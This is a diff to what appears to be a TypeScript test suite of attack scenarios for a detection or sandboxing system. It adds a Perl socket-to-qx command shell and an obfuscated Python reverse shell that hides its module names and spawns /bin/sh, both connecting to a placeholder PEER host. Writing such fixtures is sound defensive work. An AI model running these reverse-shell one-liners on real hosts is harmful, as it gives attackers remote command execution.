@@ -46,6 +46,14 @@ export const CODE: readonly Attack[] = [
     const perl = host.login().run(['perl', '-MIO', '-e', code]);
     typed(perl.fork().connect(PEER, 4242));
   }),
+  attack('perl with qx', 'execve', (host) => {
+    const code = `use IO::Socket;$s=IO::Socket::INET->new("${PEER}:1");while(<$s>){print $s qx($_)}`;
+    host.login().run(['perl', '-e', code]).connect(PEER, 1).run(['sh', '-c', 'id; ls']);
+  }),
+  attack('python that hides its names', 'execve', (host) => {
+    const code = `a=__import__;c=a("socket").socket();c.connect(("${PEER}",1));a("os").dup2(c.fileno(),0);a("pty").spawn("/bin/sh")`;
+    spawns(host.login().run(['python3', '-c', code]), ['/bin/sh']);
+  }),
   attack('perl from a file', 'network', (host) => {
     becomes(host.login().run(['perl', '/var/www/cgi-bin/p.pl']), ['/bin/bash']);
   }),
